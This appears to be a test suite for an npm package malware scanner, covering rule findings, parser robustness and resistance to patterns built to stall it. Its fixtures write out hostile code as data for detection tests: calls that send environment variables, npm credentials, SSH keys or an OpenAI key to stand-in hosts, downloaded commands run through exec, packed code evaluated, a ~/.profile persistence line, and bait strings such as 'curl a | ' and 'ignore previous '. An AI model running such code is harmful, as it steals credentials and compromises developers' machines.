import { describe, expect, test } from 'vitest';
import { check, read } from '../src/check.ts';
import { environmentReads, hostsIn } from '../src/code/facts/environment.ts';
import { MAX_SOURCE } from '../src/code/tree/parse.ts';
import { loadRules } from '../src/load-rules.ts';
import { type CaseObservation, defineRule, type Rule } from '../src/rule.ts';
import { cpuOf } from './support/cpu.ts';
import { packageOf, subjectsOf } from './world.ts';

const rules = await loadRules();

function checkCode(code: string, only: readonly Rule[] = rules) {
  return check(only, { kind: 'package', package: packageOf({ name: '', code }), root: true });
}

const everyCall = defineRule({
  ...rules[0]!,
  id: 'every-call',
  package: undefined as never,
  words: /(?:)/,
  tree: undefined as never,
  *module(module) {
    for (const call of module.calls) yield { message: call.name ?? '?', evidence: [module.at(call.node, 'call')] };
  },
});

describe('check', () => {
  test('a rule that throws is a gap that names it, and what it found before is kept', () => {
    const faulty = defineRule({
      ...everyCall,
      id: 'faulty',
      *module(module) {
        yield { message: 'found', evidence: [module.at(module.code.file, 'here')] };
        throw new Error('no\u202ewonder');
      },
    });
    const { value, gaps } = checkCode('a()', [faulty]);
    expect(value.map(({ message }) => message)).toEqual(['found']);
    expect(gaps).toEqual([{ stage: 'code', subject: 'case@1.0.0', reason: 'rule faulty failed: no\\u{202e}wonder' }]);
  });

  test('says the same twice, sorted and once', () => {
    const twice = [everyCall, everyCall];
    const first = checkCode('b(); a(); a()', twice);
    expect(first).toEqual(checkCode('b(); a(); a()', twice));
    expect(first.value.map(({ message }) => message)).toEqual(['b', 'a', 'a']);
  });

  test('a flood of small findings does not push out a large one', () => {
    const flood = defineRule({
      ...everyCall,
      *module(module) {
        for (const { node } of module.calls)
          yield { message: 'small', evidence: [module.at(node, '')], severity: 'info' };
        yield { message: 'large', evidence: [module.at(module.code.file, '')], severity: 'critical' };
      },
    });
    const { value } = checkCode('a();'.repeat(500), [flood]);
    expect(value).toHaveLength(20);
    expect(value[0]?.message).toBe('large');
  });
});

describe('what reaches one call in several ways is told once, with where each begins', () => {
  const READ = (path: string) => `require('fs').readFileSync(process.env.HOME + '${path}', 'utf8')`;

  test.each([
    [
      'secrets-sent',
      "fetch('https://c.example/?' + JSON.stringify(process.env), { method: 'POST', body: JSON.stringify(process.env) })",
      [
        'collects the whole environment while it is loaded',
        'sends the whole environment over the network while it is loaded',
      ],
      2,
    ],
    [
      'secrets-sent',
      `const a = ${READ('/.npmrc')};\nconst b = ${READ('/.npmrc')};\nfetch('https://c.example/' + a, { method: 'POST', body: b })`,
      ['collects npm credentials while it is loaded', 'sends npm credentials over the network while it is loaded'],
      2,
    ],
    [
      'secrets-sent',
      `const a = ${READ('/.npmrc')};\nconst b = ${READ('/.ssh/id_rsa')};\nfetch('https://c.example/' + a, { method: 'POST', body: b })`,
      [
        'collects SSH keys while it is loaded',
        'collects npm credentials while it is loaded',
        'sends SSH keys over the network while it is loaded',
        'sends npm credentials over the network while it is loaded',
      ],
      1,
    ],
    [
      'identity-sent',
      "const os = require('os');\nfetch('https://c.example/' + os.hostname(), { body: os.hostname() })",
      ['sends the result of os.hostname over the network while it is loaded'],
      2,
    ],
    [
      'key-to-stranger',
      "fetch('https://c.example/?' + process.env.OPENAI_API_KEY, { body: process.env.OPENAI_API_KEY })",
      [
        'sends OPENAI_API_KEY, a key of OpenAI, to c.example while it is loaded',
        'sends OPENAI_API_KEY, a key of OpenAI, to c.example while it is loaded',
      ],
      2,
    ],
    [
      'dynamic-code',
      "new Function(atob('Y29uc29sZS5sb2coMSk='), atob('Y29uc29sZS5sb2coMik='))()",
      ['runs a packed text as code while it is loaded'],
      2,
    ],
    [
      'downloads-and-runs',
      "require('child_process').exec((await fetch('https://c.example/1')).text() + ' ' + (await fetch('https://c.example/2')).text())",
      ['runs a command that came over the network while it is loaded'],
      2,
    ],
  ])('%s, %#', (rule, code, messages, beginnings) => {
    const only = rules.filter(({ id }) => id === rule);
    const { value } = checkCode(code, only);
    expect(value.map(({ message }) => message).sort()).toEqual(messages);
    for (const { evidence } of value) {
      const notes = evidence.map(({ note }) => note);
      expect(notes.filter((note) => note === notes.at(-1))).toHaveLength(beginnings);
    }
  });
});

test('objects that hold each other are looked through once', () => {
  expect(checkCode("var a = b.p, b = a.q; server.registerTool('x', { description: a.y }, b.f)").gaps).toEqual([]);
});

test.each([
  ['lists', `${'['.repeat(40_000)}${']'.repeat(40_000)}`],
  ['objects', `${'{"a":'.repeat(15_000)}1${'}'.repeat(15_000)}`],
])('JSON of %s in each other is no trouble', (_, json) => {
  const files = { 'index.js': "require('child_process').exec(require('./a.json'))", 'a.json': json };
  expect(check(rules, { kind: 'package', package: packageOf({ name: '', files }), root: true }).gaps).toEqual([]);
});

test('what waits for itself is no trouble', () => {
  const steps = 'return [4, a(_a.sent())]; '.repeat(50);
  expect(
    checkCode(`x(function () { return __generator(this, function (_a) { ${steps} return [2, _a.sent()] }) })`).gaps,
  ).toEqual([]);
});

describe('a rule is asked of a module whose words stand in a constant of another one', () => {
  const found = (files: Record<string, string>) =>
    check(rules, { kind: 'package', package: packageOf({ name: '', files }), root: true }).value.map(
      ({ rule }) => rule,
    );

  test.each([
    ['a text', "exports.HOOK = 'https://webhook.site/0000'", "const { HOOK } = require('./settings'); fetch(HOOK)"],
    ['a part', "module.exports = { to: 'https://webhook.site/0000' }", "fetch(require('./settings').to)"],
  ])('%s', (_, settings, index) => {
    expect(found({ 'index.js': index, 'settings.js': settings })).toContain('drop-host');
  });

  test('and not where another constant is used', () => {
    const settings = "exports.HOOK = 'https://webhook.site/0000'; exports.API = 'https://api.example/'";
    const index = "const { API } = require('./settings'); fetch(API)";
    expect(found({ 'index.js': index, 'settings.js': settings })).not.toContain('drop-host');
  });
});

describe('what scripts of several packages do at install is told of each', () => {
  const runs = ['laptop', 'ci'].map(
    (profile) => ({ profile, phase: 'install', status: 'completed', detail: '', ms: 1 }) as const,
  );
  const sent = { kind: 'decoy', place: 'env NOTION_TOKEN', encoding: [], asked: true, in: 0 } as const;
  const post = { kind: 'http', method: 'POST', url: 'https://c.example/', host: 'c.example', headers: {} } as const;
  const rows: Readonly<Record<string, CaseObservation>> = {
    'decoy-copied': { ...sent, channel: 'file', asked: false, where: '/tmp/x' },
    'decoy-sent': { ...sent, channel: 'network', asked: false, where: 'POST https://c.example/' },
    'fetched-at-install': { ...post, method: 'GET', body: { bytes: 0, sha256: '', text: '' } },
    'gated-behavior': { ...post, run: 'ci', body: { bytes: 9, sha256: '', text: 'x' } },
    'hidden-lookup': { kind: 'dns', name: 'c.example', type: 'TXT', via: 'https' },
    'host-unexplained': { kind: 'recipient', what: 'host', value: 'c.example', field: '', explained: 'nothing', in: 0 },
    'persistence-written': { kind: 'write', pid: 7, path: '/home/dev/.bashrc', ok: true },
    'sandbox-tampered': { kind: 'tamper', how: 'stray-process', what: '7 sh' },
    'second-tls-stack': {
      kind: 'tls',
      host: 'c.example',
      port: 443,
      outcome: 'accepted',
      ja4: 't13d1312h2_f57a46bbacb6_e7c285222651',
    },
    'secrets-read': { kind: 'read', pid: 7, path: '/home/dev/.aws/credentials', ok: true },
    'sent-unasked': { ...post, body: { bytes: 9, sha256: '', text: 'x' } },
  };

  test.each(Object.entries(rows))('%s', (rule, one) => {
    const connect = { kind: 'connect', pid: 7, address: '203.0.113.9', port: 443, host: 'c.example' } as const;
    const node = { kind: 'exec', pid: 7, path: '/usr/local/bin/node', argv: ['node', 'x.js'], ok: true } as const;
    const began = rule === 'second-tls-stack' ? [node, connect] : [];
    const observations = ['helper@1.0.0', 'tool@1.0.0'].flatMap((id) =>
      [...began, one].map((each) => ({ ...each, phase: 'install', package: id }) as CaseObservation),
    );
    const only = rules.filter(({ id }) => id === rule);
    const found = subjectsOf({ name: '', runs, observations }).flatMap((subject) => check(only, subject).value);
    expect(found.map((each) => each.package)).toEqual(['helper@1.0.0', 'tool@1.0.0']);
    expect(found.every(({ evidence }) => evidence.length === 1)).toBe(true);
  });
});

describe('what does not parse', () => {
  const gapsOf = (files: Record<string, string>, manifest: Record<string, unknown> = {}) =>
    check(rules, { kind: 'package', package: packageOf({ name: '', files, manifest }), root: true }).gaps;

  test('is a gap where an entry reaches it', () => {
    const [gap] = gapsOf({ 'index.js': "require('./lib')", 'lib.js': 'process.env.X +++ ]' });
    expect(gap).toMatchObject({ stage: 'code', subject: 'case@1.0.0/lib.js' });
    expect(gap?.reason).toMatch(/^does not parse: .* \(1:\d+\)$/);
  });

  test.each([
    ['a template nothing loads', { 'index.js': '', 'templates/app.js': 'const x = <%= process.env.X %> ]' }],
    ['a fixture that is broken on purpose', { 'index.js': '', 'test/fixtures/bad.js': 'eval( ]' }],
    ['JSON with the wrong extension', { 'index.js': '', 'data.js': '{"process.env": 1, "b": 2}' }],
    [
      'a schema that a bundler loads',
      { 'index.js': "import './a.graphql'; process.env.X", 'a.graphql': 'type Query { me: User! @auth }' },
    ],
    ['a text', { 'index.js': "require('./NOTES'); process.env.X", NOTES: 'Not a program, but a note.' }],
  ])('is no gap where it is %s', (_, files) => expect(gapsOf(files)).toEqual([]));

  test('is no gap where a script that npm runs names a style sheet', () => {
    const sheets = { 'index.js': '', 'assets/index.less': "@import './x'; /* process.env.X */ .a { .b(); }" };
    const manifest = { scripts: { prepare: 'lessc assets/index.less assets/index.css' } };
    expect(gapsOf(sheets, manifest)).toEqual([]);
  });

  test('is no gap where a program is started with its settings', () => {
    const files = { 'index.js': '', 'host.yml': 'plugins:\n  - name: process.env.X\n    run: |\n      eval $X' };
    expect(gapsOf(files, { scripts: { start: 'host --patch ./host.yml' } })).toEqual([]);
  });

  test.each([
    ['a grammar', { 'src/toml.pegjs': 'start = line* { return process.env.X }' }, 'pegjs src/toml.pegjs lib/parser.js'],
    ['a script of a shell', { 'test/run-tests': '#!/bin/bash\nfor i in {1..9}; do eval "$X"; done' }, 'test/run-tests'],
  ])('is no gap where a script that is run before publishing names %s', (_, files, prepublish) => {
    expect(gapsOf({ 'index.js': '', ...files }, { scripts: { prepublish } })).toEqual([]);
  });

  test('is not said of a command that is a program of the machine, however large, but that nobody reads it', () => {
    const elf = `\u007fELF\u0002\u0001\u0001${'process.env.X '.repeat(10)}`;
    expect(gapsOf({ 'index.js': '', 'dist/tool': elf }, { bin: './dist/tool' })).toMatchObject([
      { reason: 'its command is a program (ELF), which is not read' },
    ]);
    expect(gapsOf({ 'index.js': '', 'dist/tool': elf }, { scripts: { start: './dist/tool' } })).toEqual([]);
    expect(gapsOf({ 'index.js': '', 'dist/tool': `#${elf}` }, { bin: './dist/tool' })).toHaveLength(1);
  });

  test('what is a program of Windows may be JavaScript as well, and is read', () => {
    const at = 0x44;
    const head = `MZ/*${' '.repeat(0x3c - 4)}${String.fromCharCode(at)}\0\0\0${' '.repeat(at - 0x40)}PE\0\0*/\n`;
    const code = `${head}=1; fetch('https://collect.example', { method: 'POST', body: JSON.stringify(process.env) })`;
    const pkg = packageOf({ name: '', files: { 'index.js': "require('./dist/tool')", 'dist/tool': code } });
    const { value } = check(rules, { kind: 'package', package: pkg, root: true });
    expect(value.map(({ rule }) => rule)).toContain('secrets-sent');
  });

  test('is one where an install runs it, whatever its name', () => {
    const [gap] = gapsOf({ payload: 'process.env.X +++ ]' }, { scripts: { postinstall: 'node payload' } });
    expect(gap).toMatchObject({ stage: 'code', subject: 'case@1.0.0/payload' });
  });

  test('is one where it is a command, whatever its name', () => {
    const [gap] = gapsOf({ 'index.js': '', start: 'process.env.X +++ ]' }, { bin: './start' });
    expect(gap).toMatchObject({ stage: 'code', subject: 'case@1.0.0/start' });
  });

  test.each([
    ['JSX', { 'index.js': "import React from 'react'; export const x = <a href={process.env.X}>b</a>" }],
    ['Flow', { 'index.js': 'type A = { b: ?string }; export const x: A = { b: process.env.X };' }],
    ['TypeScript in .js', { 'index.js': 'interface A { b: string }; export const x = process.env.X as A;' }],
    [
      'TypeScript',
      { 'index.js': "require('./x.ts')", 'x.ts': 'enum A { b }; export const f = <T,>(a: T): T => process.env.X as T' },
    ],
    ['what only CommonJS allows', { 'index.js': 'module.exports = process.env.X;\n<!-- an old comment\n' }],
    ['return at the top', { 'index.js': 'if (process.env.X) return; module.exports = 1' }],
    ['an import in a package of type commonjs', { 'index.js': "import x from 'y'; process.env.X" }],
    ['a hashbang and sloppy octals', { 'index.js': '#!/usr/bin/env node\nvar a = 010; with (process.env) { X }' }],
  ])('%s is read', (_, files) => expect(gapsOf(files)).toEqual([]));
});

describe('hostile code ends, as a gap or a finding', () => {
  test.each([
    ['100,000 nested arrays', `process.env.X;${'['.repeat(100_000)}${']'.repeat(100_000)}`],
    ['100,000 nested parentheses', `eval(${'('.repeat(100_000)}1${')'.repeat(100_000)})`],
    ['more than is parsed', `process.env.X;"${'a'.repeat(MAX_SOURCE)}"`],
  ])('%s', (_, code) => {
    const { gaps } = checkCode(code);
    expect(gaps.map(({ stage, subject }) => ({ stage, subject }))).toEqual([
      { stage: 'code', subject: 'case@1.0.0/index.js' },
    ]);
  });

  test.each([
    ['150 nested arrays', `process.env.X;x=${'['.repeat(150)}${']'.repeat(150)}`],
    ['a sum of 1,000 parts', `eval(${"'a'+".repeat(1_000)}'b')`],
    ['a definition in a circle', 'let a = b, b = c, c = a; eval(a); process.env[a]; a = a + a; fetch(b)'],
    [
      'a bomb of maps',
      `eval([${'1,'.repeat(999)}].map((a) => [${'1,'.repeat(999)}].map((b) => [${'1,'.repeat(999)}].map((c) => a + b + c).join())))`,
    ],
    ['a repeat bomb', "eval('a'.repeat(1e9)); eval('a'.repeat(1e6).repeat(1e6)); eval('x'.padEnd(1e12))"],
    [
      'names of Object.prototype',
      'constructor(1); toString(); hasOwnProperty("x"); __proto__.x(); process.env.constructor; "a".constructor("b"); valueOf()',
    ],
    [
      'many ways to one receiver',
      `${Array.from({ length: 30 }, (_, i) => {
        const calls = Array.from({ length: 30 }, (_, j) => `f${j}(b, a); f${j}(a, b);`).join('');
        return `function f${i}(a, b) { a.go(); ${calls} }`;
      }).join('\n')}\nf0(process.env, eval)`,
    ],
    [
      'many exports that read files of each other',
      `const fs = require('fs');\n${Array.from({ length: 150 }, (_, i) => `function r${i}(a, b) { a = b; b = r${(i + 1) % 150}(b, a); return fs.readFileSync(a + b + r${(i + 7) % 150}(a, b)) }\nexports.r${i} = r${i};`).join('\n')}`,
    ],
    [
      'a path that is nearly one of a process',
      `require('fs').readFileSync('${'/proc /environ /mem '.repeat(3_000)}' + x)`,
    ],
    [
      'functions that call each other',
      'function a() { return b() } function b() { return a() } eval(a()); fetch(b(process.env))',
    ],
  ])(
    '%s',
    (_, code) => {
      const work = cpuOf(() => {
        expect(checkCode(code).gaps).toEqual([]);
      });
      // Generous, because machines are shared: without its bound each of these takes minutes or never ends.
      expect(work).toBeLessThan(15_000);
    },
    30_000,
  );

  // Each repeats what some pattern begins with, so that a pattern that goes back over its text takes minutes.
  test.each([
    ...[
      '\u202a',
      '\ufe00',
      ' ',
      '\n',
      'import ',
      'export {a} ',
      'require(',
      'while (',
      "['a'] + ",
      '://a:',
      '\\x4',
      '"base64" ',
    ],
    ...[
      'npm token ',
      'curl a | ',
      'process.env.',
      '-----BEGIN ',
      'ignore previous ',
      'eval ',
      '.constructor',
      'parseInt(a(0x1',
    ],
    ...[
      `${'\t'.repeat(59)}x`,
      `${'\n'.repeat(399)}x`,
      `${'\u200b'.repeat(23)}x`,
      `${' '.repeat(199)};`,
      'data:text/',
      '<!-- ',
      'a@',
    ],
  ])(
    'a text that baits a pattern: %j',
    (unit) => {
      const text = unit.repeat(200_000 / unit.length);
      const files = {
        'index.js': `process.env.X; eval(${JSON.stringify(text)}); // ${text}`,
        'README.md': text,
        '.env': text,
      };
      const started = process.cpuUsage().user;
      read(rules, packageOf({ name: '', files }), true);
      expect((process.cpuUsage().user - started) / 1e6).toBeLessThan(10);
    },
    60_000,
  );

  test.each([
    'curl -d "$(',
    'curl "$A" | node -e "',
    '{ ',
    'cd a/ && ',
    'cd a && make; ',
    'x.sh ',
    'python -c "',
    'powershell -e ',
    '$npm_package_config_a ',
  ])(
    'a command of the install that baits a pattern: %j',
    (unit) => {
      const text = `curl ${unit.repeat(1_000_000 / unit.length)}`;
      const manifest = {
        config: { a: 'b'.repeat(1_000) },
        scripts: { install: 'sh x.sh && python p.py && make', postinstall: text, x: text },
      };
      const files = { 'x.sh': text, 'p.py': text, 'binding.gyp': text, Makefile: `a:\n\t${text}`, 'a/Makefile': '' };
      const started = process.cpuUsage().user;
      read(rules, packageOf({ name: '', manifest, files }), true);
      expect((process.cpuUsage().user - started) / 1e6).toBeLessThan(8);
    },
    30_000,
  );

  test('20 MB of JSON', () => {
    const row = JSON.stringify({ name: 'a name of usual length', url: 'https://data.example/a/b', list: [1, 2, [3]] });
    const files = {
      'data.json': `[${`${row},`.repeat(250_000)}${row}]`,
      'index.js': "module.exports = require('./data.json')",
    };
    const started = process.cpuUsage().user;
    const { gaps } = read(rules, packageOf({ name: '', files }), true);
    expect(gaps).toEqual([]);
    expect((process.cpuUsage().user - started) / 1e6).toBeLessThan(10);
  }, 60_000);

  test('4,000 modules that pass each other on, of which the last has something to tell', () => {
    const files = Object.fromEntries(
      Array.from({ length: 4_000 }, (_, i) => [
        `${i}.js`,
        `export * from './${i + 1}.js'; export const a${i} = () => eval;`,
      ]),
    );
    const last = { '4000.js': 'export const all = () => JSON.stringify(process.env);' };
    const started = process.cpuUsage().user;
    read(
      rules,
      packageOf({ name: '', files: { ...files, ...last }, manifest: { main: '0.js', type: 'module' } }),
      true,
    );
    expect((process.cpuUsage().user - started) / 1e6).toBeLessThan(10);
  }, 120_000);

  test('60 modules that each pass on all the others, whole, and a name that none of them has', () => {
    const names = Array.from({ length: 60 }, (_, i) => `./m${i}.js`);
    const files = Object.fromEntries(
      names.map((name) => [
        name.slice(2),
        `${names.map((other) => `export * from '${other}';`).join('\n')} export const e = () => process.env;`,
      ]),
    );
    const main = "import { none, TEXT } from './m0.js'; none(TEXT); server.tool(TEXT, none, () => fetch(TEXT));";
    const started = process.cpuUsage().user;
    read(rules, packageOf({ name: '', files: { ...files, 'index.js': main }, manifest: { type: 'module' } }), true);
    expect((process.cpuUsage().user - started) / 1e6).toBeLessThan(10);
  }, 120_000);

  test('a line of 5 MB', () => {
    checkCode(`process.env.X;${'alpha(beta,"some text of a usual length",gamma);'.repeat(105_000)}`);
  }, 60_000);
});

describe('environmentReads', () => {
  test('knows every way to read a variable', () => {
    const code = `
      const { env } = process; const { NPM_TOKEN, KEY: k = 'x', ...rest } = process.env;
      const name = 'CON' + 'STANT'; import('node:process').then(({ env: e }) => e.IMPORTED);
      env.ALIASED; process.env.DIRECT ?? 1; process.env['QUOTED']; process.env[name]; globalThis.process.env.GLOBAL;
      process.env.METHOD.trim(); process?.env?.OPTIONAL; process.env[dynamic]; process.env.toString;`;
    const found = environmentReads(packageOf({ name: '', code }));
    expect(found).toEqual(
      [
        'ALIASED',
        'CONSTANT',
        'DIRECT',
        'GLOBAL',
        'IMPORTED',
        'KEY',
        'METHOD',
        'NPM_TOKEN',
        'OPTIONAL',
        'QUOTED',
        'toString',
      ].sort(),
    );
  });
});

describe('hostsIn', () => {
  test('takes hosts of URLs in code, documentation and manifest', () => {
    const pkg = packageOf({
      name: '',
      files: {
        'index.js': "fetch('https://api.weather.example/v1')",
        'README.md': 'See http://Docs.example/x and a@b.example',
      },
      manifest: { homepage: 'wss://live.example:8080' },
    });
    expect(hostsIn(pkg)).toEqual(['api.weather.example', 'docs.example', 'live.example']);
  });
});

describe('a script that code starts', async () => {
  const rules = await loadRules();
  const code = "require('child_process').execFileSync('bash', [__dirname + '/setup.sh']);";
  test.each([
    ['a module runs it when that is loaded', code, 'while it is loaded'],
    ['many modules in one file leave open when', `${code}/*${'-'.repeat(200_000)}*/`, 'when it is called'],
  ])('%s', (_, main, when) => {
    const files = { 'index.js': main, 'setup.sh': "echo 'export PATH=$HOME/tides:$PATH' >> ~/.profile\n" };
    const { value } = check(rules, { kind: 'package', package: packageOf({ name: '', files }), root: true });
    const messages = value.filter(({ rule }) => rule === 'persistence').map(({ message }) => message);
    expect(messages).toEqual([expect.stringContaining(when)]);
  });
});
